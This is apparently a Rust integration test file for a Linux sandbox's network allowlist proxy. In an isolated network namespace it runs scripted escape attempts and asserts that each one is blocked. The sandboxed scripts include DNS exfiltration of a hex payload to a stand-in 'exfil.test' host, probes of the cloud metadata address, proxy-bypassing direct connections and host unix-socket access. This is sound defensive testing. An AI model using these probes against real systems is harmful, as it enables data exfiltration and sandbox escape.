//! Allowlist mode for real (ADR-0030, NET-03 to NET-07 of the adversarial corpus).
//!
//! Each test runs in a thread that has unshared its network namespace and holds the lab
//! there: 198.18.0.10 (`allowed.test`), 198.18.0.11 (`denied.test`), 10.77.0.5 and
//! 169.254.169.254 exist only on that namespace's `lo`; TCP listeners log every accepted
//! connection, UDP listeners on port 53 log every datagram, and a fake resolver (injected into
//! the proxy) logs every name it is asked. The whole sandbox run starts from that thread, so
//! the supervisor, the proxy and its upstream connections live in the lab namespace and
//! nothing can leave the machine even if a guard fails. Each refusal has a positive control
//! showing that the listener (or log) would have seen a breach.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "test code"
)]
#![allow(
    unsafe_code,
    reason = "unshare(CLONE_NEWNET) and shutdown(2) on the lab's sockets"
)]

mod common;
mod mode;

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::unix::net::UnixListener;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use common::egress::ProxyGateway;
use common::*;
use corral_contract::manifest::Termination;
use corral_egress::Resolve;
use corral_sandbox::{EgressRecord, SandboxOutcome};

type Log = Arc<Mutex<Vec<(SocketAddr, Vec<u8>)>>>;

const TCP: &[&str] = &[
    "198.18.0.10:8080",
    "198.18.0.10:8081",
    "198.18.0.10:443",
    "198.18.0.10:22",
    "198.18.0.11:8080",
    "10.77.0.5:80",
    "169.254.169.254:80",
    "127.0.0.1:8080",
];
const UDP: &[&str] = &["127.0.0.53:53", "127.0.0.1:53", "198.18.0.10:53"];

struct FakeDns {
    table: BTreeMap<&'static str, IpAddr>,
    queries: Arc<Mutex<Vec<String>>>,
}

impl Resolve for FakeDns {
    fn resolve(&self, name: &str, _port: u16) -> io::Result<Vec<IpAddr>> {
        self.queries.lock().unwrap().push(name.to_owned());
        self.table
            .get(name)
            .map(|ip| vec![*ip])
            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "NXDOMAIN"))
    }
}

struct Lab {
    logs: BTreeMap<String, Log>,
    queries: Arc<Mutex<Vec<String>>>,
    gateway: ProxyGateway,
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
    /// Listening TCP sockets, shut down at the end to wake their accept loops.
    tcp: Vec<TcpListener>,
}

impl Lab {
    fn hits(&self, at: &str) -> usize {
        self.logs[at].lock().unwrap().len()
    }

    fn queried(&self) -> Vec<String> {
        self.queries.lock().unwrap().clone()
    }

    /// A direct connection from the lab namespace (the supervisor's): the positive control.
    fn direct(&self, at: &str) -> String {
        let mut s = TcpStream::connect(at).unwrap();
        s.write_all(b"GET / HTTP/1.0\r\n\r\n").unwrap();
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
        out
    }

    fn close(mut self) {
        self.stop.store(true, Ordering::SeqCst);
        for l in &self.tcp {
            // SAFETY: shutdown on a listening socket we own wakes its blocked accept(2).
            unsafe { libc::shutdown(l.as_raw_fd(), libc::SHUT_RDWR) };
        }
        for t in self.threads.drain(..) {
            t.join().unwrap();
        }
    }
}

fn ip(args: &[&str]) {
    let st = Command::new("ip")
        .args(args)
        .status()
        .expect("ip (iproute2) is required for the lab");
    assert!(st.success(), "ip {args:?} failed");
}

fn tcp_listener(at: &str, stop: &Arc<AtomicBool>) -> (Log, TcpListener, JoinHandle<()>) {
    let listener = TcpListener::bind(at).unwrap_or_else(|e| panic!("bind {at}: {e}"));
    let log: Log = Arc::default();
    let (l, stop, tag) = (Arc::clone(&log), Arc::clone(stop), at.to_owned());
    let accept = listener.try_clone().unwrap();
    let t = std::thread::spawn(move || {
        while !stop.load(Ordering::SeqCst) {
            let Ok((mut s, peer)) = accept.accept() else {
                continue;
            };
            // Read the whole request head (closing with unread data would send a reset).
            let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
            let mut buf = Vec::new();
            let mut chunk = [0u8; 1024];
            while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 16384 {
                match s.read(&mut chunk) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            }
            l.lock().unwrap().push((peer, buf));
            let body = format!("hello-from-{tag}");
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (log, listener, t)
}

fn udp_listener(at: &str, stop: &Arc<AtomicBool>) -> (Log, JoinHandle<()>) {
    let sock = UdpSocket::bind(at).unwrap_or_else(|e| panic!("bind udp {at}: {e}"));
    sock.set_read_timeout(Some(Duration::from_millis(50)))
        .unwrap();
    let log: Log = Arc::default();
    let (l, stop) = (Arc::clone(&log), Arc::clone(stop));
    let t = std::thread::spawn(move || {
        let mut buf = [0u8; 2048];
        while !stop.load(Ordering::SeqCst) {
            if let Ok((n, peer)) = sock.recv_from(&mut buf) {
                l.lock().unwrap().push((peer, buf[..n].to_vec()));
            }
        }
    });
    (log, t)
}

/// Runs `f` in a fresh network namespace holding the lab; everything is closed afterwards
/// (the namespace has no name and no mount, so it is gone once its sockets are).
fn in_lab(f: impl FnOnce(&Lab) + Send + 'static) {
    std::thread::spawn(move || {
        // SAFETY: unshare of this thread's network namespace only.
        let rc = unsafe { libc::unshare(libc::CLONE_NEWNET) };
        assert_eq!(rc, 0, "unshare(CLONE_NEWNET): run the tests as root");
        ip(&["link", "set", "lo", "up"]);
        for a in [
            "198.18.0.10/32",
            "198.18.0.11/32",
            "10.77.0.5/32",
            "169.254.169.254/32",
        ] {
            ip(&["addr", "add", a, "dev", "lo"]);
        }
        let stop = Arc::new(AtomicBool::new(false));
        let mut logs = BTreeMap::new();
        let (mut threads, mut tcp) = (Vec::new(), Vec::new());
        for at in TCP {
            let (log, l, t) = tcp_listener(at, &stop);
            logs.insert((*at).to_owned(), log);
            tcp.push(l);
            threads.push(t);
        }
        for at in UDP {
            let (log, t) = udp_listener(at, &stop);
            logs.insert(format!("udp:{at}"), log);
            threads.push(t);
        }
        let queries: Arc<Mutex<Vec<String>>> = Arc::default();
        let ip = |s: &str| -> IpAddr { s.parse().unwrap() };
        let table = [
            ("allowed.test", ip("198.18.0.10")),
            ("denied.test", ip("198.18.0.11")),
            ("private.test", ip("10.77.0.5")),
            ("meta.test", ip("169.254.169.254")),
        ]
        .into_iter()
        .collect();
        let gateway = ProxyGateway {
            resolver: Arc::new(FakeDns {
                table,
                queries: Arc::clone(&queries),
            }),
            idle_timeout: Duration::from_secs(3),
        };
        let lab = Lab {
            logs,
            queries,
            gateway,
            stop,
            threads,
            tcp,
        };
        f(&lab);
        lab.close();
    })
    .join()
    .unwrap();
}

/// A `/bin/sh` script in allowlist mode with the attack helper bound read-only as `$A`.
fn case(script: &str, allowlist: &[&str]) -> Case {
    let mut c = Case::sh(&format!("A={}\n{script}", attack_bin()));
    c.use_attack_as_shell();
    c.network = "allowlist";
    c.allowlist = allowlist.iter().map(|s| (*s).to_owned()).collect();
    c
}

fn run(lab: &Lab, c: &Case) -> (SandboxOutcome, String) {
    let ws = Workspace::new(
        &format!("egress-{:?}", std::thread::current().id()).replace(['(', ')'], ""),
    );
    let t = Instant::now();
    let o = c
        .run_with(&ws.path, &lab.gateway)
        .unwrap_or_else(|e| panic!("sandbox error: {e}"));
    let out = text(&o.stdout.bytes);
    println!(
        "--- {} ms\n{out}\n--- stderr\n{}\n--- egress {:#?}",
        t.elapsed().as_millis(),
        text(&o.stderr.bytes),
        o.egress
    );
    assert_eq!(o.termination, Termination::Exited, "{out}");
    assert_gone(&o);
    (o, out)
}

fn lines<'a>(out: &'a str, prefix: &str) -> Vec<&'a str> {
    out.lines().filter(|l| l.starts_with(prefix)).collect()
}

fn record<'a>(o: &'a SandboxOutcome, dest: &str) -> Vec<&'a EgressRecord> {
    o.egress.iter().filter(|r| r.destination == dest).collect()
}

#[test]
fn evidence_states_both_modes() {
    let ev = &executor().probe_report().capabilities.network_enforcement;
    println!("{}", ev.evidence);
    assert!(ev.enforced, "{}", ev.evidence);
    assert!(ev.evidence.contains("mode none:"), "{}", ev.evidence);
    assert!(ev.evidence.contains("mode allowlist:"), "{}", ev.evidence);
    assert!(!ev.evidence.contains("MISSING"), "{}", ev.evidence);
    assert!(
        executor().probe_report().observations.egress_wiring.ok,
        "{:?}",
        executor().probe_report().observations.egress_wiring
    );
}

/// Positive control for every refusal below: the allowed destination works through the
/// proxy (absolute-form HTTP and CONNECT), the proxy variables are set, `NO_PROXY` is gone,
/// and the record shows the destination with its bytes.
#[test]
fn allowed_destination_through_the_proxy_works_and_is_recorded() {
    in_lab(|lab| {
        // NO_PROXY cannot even be admitted (reserved); corral removes it in any case.
        let c = case(
            r#"echo "ENV HP=$HTTP_PROXY hs=$https_proxy ap=$ALL_PROXY hp=$http_proxy HS=$HTTPS_PROXY aP=$all_proxy np=${NO_PROXY-unset}/${no_proxy-unset}"
$A proxy-get http://allowed.test:8080/x
$A proxy-connect allowed.test:8080"#,
            &["allowed.test:8080"],
        );
        let (o, out) = run(lab, &c);
        let url = "http://127.0.0.1:3128";
        assert!(
            out.contains(&format!(
                "ENV HP={url} hs={url} ap={url} hp={url} HS={url} aP={url} np=unset/unset"
            )),
            "{out}"
        );
        let ok = lines(&out, "STATUS 200");
        assert_eq!(ok.len(), 2, "{out}");
        assert!(
            ok.iter().all(|l| l.contains("hello-from-198.18.0.10:8080")),
            "{out}"
        );
        assert_eq!(lab.hits("198.18.0.10:8080"), 2);
        let r = record(&o, "allowed.test:8080");
        assert_eq!(r.len(), 1, "{:?}", o.egress);
        assert!(r[0].allowed && r[0].reason.is_none());
        assert_eq!(r[0].connections, 2);
        assert!(r[0].bytes_up > 0 && r[0].bytes_down > 0, "{:?}", r[0]);
        assert!(
            o.notes.iter().any(|n| n.contains("network allowlist")),
            "{:?}",
            o.notes
        );
    });
}

/// NET-06: tools that ignore the proxy variables reach nothing; the allowed listener sees
/// only the proxy's connection.
#[test]
fn net06_direct_connections_bypassing_the_proxy_fail() {
    in_lab(|lab| {
        let c = case(
            "for t in '198.18.0.10 8080' '198.18.0.10 443' '198.18.0.11 8080' '10.77.0.5 80' '169.254.169.254 80' '127.0.0.1 8080'; do $A connect $t; done
$A proxy-get http://allowed.test:8080/",
            &["allowed.test:8080", "198.18.0.10:8080"],
        );
        let (_o, out) = run(lab, &c);
        assert_eq!(lines(&out, "FAILED").len(), 6, "{out}");
        assert!(lines(&out, "CONNECTED").is_empty(), "{out}");
        assert_eq!(lines(&out, "STATUS 200").len(), 1, "{out}");
        // Only the proxy's upstream connection reached the allowed listener.
        assert_eq!(lab.hits("198.18.0.10:8080"), 1);
        for at in [
            "198.18.0.10:443",
            "198.18.0.11:8080",
            "10.77.0.5:80",
            "169.254.169.254:80",
            "127.0.0.1:8080",
        ] {
            assert_eq!(lab.hits(at), 0, "{at}");
        }
        // Positive control: the same connections from the supervisor's namespace land.
        for at in [
            "198.18.0.10:8080",
            "198.18.0.10:443",
            "198.18.0.11:8080",
            "10.77.0.5:80",
            "169.254.169.254:80",
            "127.0.0.1:8080",
        ] {
            assert!(lab.direct(at).contains("hello-from-"), "{at}");
        }
        assert_eq!(lab.hits("198.18.0.10:8080"), 2);
        assert_eq!(lab.hits("10.77.0.5:80"), 1);
    });
}

/// NET-07: unlisted host, unlisted port, unlisted IP literal are refused by the proxy (403),
/// recorded with their reason, and never resolved or dialled.
#[test]
fn net07_unlisted_host_and_port_are_refused_and_recorded() {
    in_lab(|lab| {
        let c = case(
            "$A proxy-get http://denied.test:8080/
$A proxy-get http://allowed.test:8081/
$A proxy-connect allowed.test:22
$A proxy-connect denied.test:8080
$A proxy-get http://198.18.0.11:8080/
$A proxy-get http://allowed.test:8080/",
            &["allowed.test:8080"],
        );
        let (o, out) = run(lab, &c);
        assert_eq!(lines(&out, "STATUS 403").len(), 5, "{out}");
        assert_eq!(lines(&out, "STATUS 200").len(), 1, "{out}");
        assert!(out.contains("X-Corral-Egress: not_on_allowlist"), "{out}");
        for at in ["198.18.0.11:8080", "198.18.0.10:8081", "198.18.0.10:22"] {
            assert_eq!(lab.hits(at), 0, "{at}");
        }
        assert_eq!(lab.hits("198.18.0.10:8080"), 1);
        assert_eq!(lab.queried(), vec!["allowed.test".to_owned()]);
        for dest in [
            "denied.test:8080",
            "allowed.test:8081",
            "allowed.test:22",
            "198.18.0.11:8080",
        ] {
            let r = record(&o, dest);
            assert_eq!(r.len(), 1, "{dest}: {:?}", o.egress);
            assert!(!r[0].allowed, "{dest}");
            assert_eq!(r[0].reason.as_deref(), Some("not_on_allowlist"), "{dest}");
            assert_eq!((r[0].bytes_up, r[0].bytes_down), (0, 0), "{dest}");
        }
        assert_eq!(record(&o, "denied.test:8080")[0].connections, 2);
        // Positive control: the refused listeners log a direct connection.
        for at in ["198.18.0.11:8080", "198.18.0.10:8081", "198.18.0.10:22"] {
            assert!(lab.direct(at).contains("hello-from-"), "{at}");
            assert_eq!(lab.hits(at), 1, "{at} listener is blind");
        }
    });
}

/// NET-03: no DNS inside the sandbox (no resolv.conf, no resolver reachable), and a name
/// the allowlist does not list is never resolved by the proxy.
#[test]
fn net03_no_dns_inside_and_unlisted_names_never_resolved() {
    in_lab(|lab| {
        let hex = "434f5252414c2d4e45542d3033";
        let c = case(
            &format!(
                "cat /etc/resolv.conf || echo NO-RESOLV-CONF
$A resolve allowed.test
$A resolve {hex}.exfil.test
for t in '127.0.0.53 53' '127.0.0.1 53' '198.18.0.10 53'; do $A udp $t {hex}; done
$A proxy-get http://{hex}.exfil.test/
$A proxy-connect {hex}.exfil.test:443
$A proxy-get http://allowed.test:8080/"
            ),
            &["allowed.test:8080"],
        );
        let (o, out) = run(lab, &c);
        assert!(out.contains("NO-RESOLV-CONF"), "{out}");
        assert!(lines(&out, "RESOLVED").is_empty(), "{out}");
        assert_eq!(lines(&out, "FAILED allowed.test").len(), 1, "{out}");
        assert_eq!(lines(&out, &format!("FAILED {hex}")).len(), 1, "{out}");
        assert_eq!(lines(&out, "STATUS 403").len(), 2, "{out}");
        assert_eq!(lines(&out, "STATUS 200").len(), 1, "{out}");
        for at in UDP {
            assert_eq!(lab.hits(&format!("udp:{at}")), 0, "{at}");
        }
        // The proxy resolved the listed name (the resolver log is not blind), and only it.
        assert_eq!(lab.queried(), vec!["allowed.test".to_owned()]);
        assert!(!lab.queried().iter().any(|q| q.contains(hex)));
        let refused: Vec<_> = o
            .egress
            .iter()
            .filter(|r| r.destination.contains(hex))
            .collect();
        assert_eq!(refused.len(), 2, "{:?}", o.egress);
        assert!(
            refused
                .iter()
                .all(|r| !r.allowed && r.reason.as_deref() == Some("not_on_allowlist"))
        );
        // Positive control: a datagram from the supervisor's namespace is logged.
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        for at in UDP {
            s.send_to(hex.as_bytes(), at).unwrap();
        }
        let until = Instant::now() + Duration::from_secs(2);
        while UDP.iter().any(|at| lab.hits(&format!("udp:{at}")) == 0) && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(5));
        }
        for at in UDP {
            assert_eq!(lab.hits(&format!("udp:{at}")), 1, "{at} listener is blind");
        }
    });
}

fn accepted(l: &UnixListener) -> usize {
    l.set_nonblocking(true).unwrap();
    let mut n = 0;
    while l.accept().is_ok() {
        n += 1;
    }
    n
}

/// NET-04: an abstract unix socket of the supervisor's network namespace is unreachable in
/// allowlist mode (abstract names are per network namespace; Landlock scoping on top).
#[test]
fn net04_abstract_socket_of_the_supervisor_namespace_is_unreachable() {
    in_lab(|lab| {
        use std::os::linux::net::SocketAddrExt as _;
        let name = format!("corral-sbx-{}", std::process::id());
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        let l = UnixListener::bind_addr(&addr).unwrap();
        // Positive control: reachable from the supervisor's namespace.
        let host = Command::new(attack_bin())
            .args(["abstract", &name])
            .output()
            .unwrap();
        assert!(
            text(&host.stdout).contains("CONNECTED"),
            "{}",
            text(&host.stdout)
        );
        assert_eq!(accepted(&l), 1);
        let c = case(
            &format!("$A abstract {name}\necho UNIX-LINES $(grep -c {name} /proc/net/unix)"),
            &["allowed.test:8080"],
        );
        let (_o, out) = run(lab, &c);
        assert_eq!(lines(&out, &format!("FAILED @{name}")).len(), 1, "{out}");
        assert!(out.contains("UNIX-LINES 0"), "{out}");
        assert_eq!(accepted(&l), 0);
    });
}

/// NET-05: a pathname unix socket the test creates under the host's /tmp (mode 0777) is not
/// visible or connectable inside the sandbox.
#[test]
fn net05_pathname_unix_socket_is_not_reachable() {
    in_lab(|lab| {
        use std::os::unix::fs::PermissionsExt as _;
        let path = format!("/tmp/corral-sbx-{}.sock", std::process::id());
        let _ = std::fs::remove_file(&path);
        // Removed however the test ends (a failed assertion included).
        struct Remove<'a>(&'a str);
        impl Drop for Remove<'_> {
            fn drop(&mut self) {
                let _ = std::fs::remove_file(self.0);
            }
        }
        let _cleanup = Remove(&path);
        let l = UnixListener::bind(&path).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
        let host = Command::new(attack_bin())
            .args(["unix", &path])
            .output()
            .unwrap();
        assert!(
            text(&host.stdout).contains("CONNECTED"),
            "{}",
            text(&host.stdout)
        );
        assert_eq!(accepted(&l), 1);
        let mut c = case(
            &format!(
                "$A unix {path}\nls -l {path} 2>&1 || true\nfind / -path /proc -prune -o -type s -print 2>/dev/null | sed 's/^/SOCKET /'"
            ),
            &["allowed.test:8080"],
        );
        // `find /` walks the whole sandbox view: seconds here, over 20 s in an emulated guest.
        // The budget bounds a hang; it is not a pace.
        c.budget.wall = 300;
        c.budget.cpu = 300;
        let (_o, out) = run(lab, &c);
        assert_eq!(lines(&out, &format!("FAILED {path}")).len(), 1, "{out}");
        assert!(lines(&out, "SOCKET").is_empty(), "{out}");
        assert_eq!(accepted(&l), 0);
        drop(l);
    });
}

/// Every ending finishes the proxy session: a run that ends on its wall budget, with an
/// allowed exchange done and a refused one, still returns both records, and nothing is left.
#[test]
fn wall_timeout_still_returns_the_records() {
    in_lab(|lab| {
        let mut c = case(
            "$A proxy-get http://allowed.test:8080/
$A proxy-get http://denied.test:8080/
sleep 600",
            &["allowed.test:8080"],
        );
        // The budget counts from before the sandbox is set up, so it must outlast set-up and
        // both requests on the slowest host that runs this (an emulated guest under load:
        // 1 s ended a run there before its first request). The worker's `sleep 600` is what
        // only the budget can end.
        c.budget.wall = 30;
        let ws = Workspace::new("egress-wall");
        let t = Instant::now();
        let o = c.run_with(&ws.path, &lab.gateway).unwrap();
        assert_eq!(o.termination, Termination::WallTimeout);
        // The budget ended the worker, not its own sleep. Not a pace: an emulated guest
        // under load takes many seconds to set up and tear down (a 5 s bound failed there).
        assert!(t.elapsed() < Duration::from_secs(300), "{:?}", t.elapsed());
        let allowed = record(&o, "allowed.test:8080");
        assert!(allowed.len() == 1 && allowed[0].allowed, "{:?}", o.egress);
        let denied = record(&o, "denied.test:8080");
        assert!(
            denied.len() == 1 && denied[0].reason.as_deref() == Some("not_on_allowlist"),
            "{:?}",
            o.egress
        );
        assert_gone(&o);
    });
}

/// Fail closed: without observed egress wiring an allowlist run is refused before start,
/// even with a gateway; without a gateway it is refused too (isolation.rs covers that).
#[test]
fn allowlist_is_refused_when_the_probe_did_not_observe_the_wiring() {
    let base = executor().probe_report();
    let mut obs = base.observations.clone();
    obs.egress_wiring = corral_linux::Observation::missing("simulated");
    let report = corral_linux::ProbeReport::from_observations(obs, base.hierarchy.clone());
    assert!(
        report
            .capabilities
            .network_enforcement
            .evidence
            .contains("mode allowlist: MISSING")
    );
    let exe = corral_linux::LinuxSandboxExecutor::with_probe(executor().config().clone(), report);
    let c = case("echo ran", &["allowed.test:8080"]);
    let ws = Workspace::new("egress-unwired");
    let gateway = ProxyGateway {
        resolver: Arc::new(FakeDns {
            table: BTreeMap::new(),
            queries: Arc::default(),
        }),
        idle_timeout: Duration::from_secs(1),
    };
    let err = corral_sandbox::execute_admitted_with(
        &exe,
        &c.admitted(),
        &ws.path,
        &corral_sandbox::CancelToken::new().unwrap(),
        &corral_sandbox::ExecuteOptions {
            egress: Some(&gateway),
            model: None,
            executable: None,
        },
    )
    .unwrap_err();
    assert!(
        matches!(err, corral_sandbox::SandboxError::Unsupported(_)),
        "{err}"
    );
}
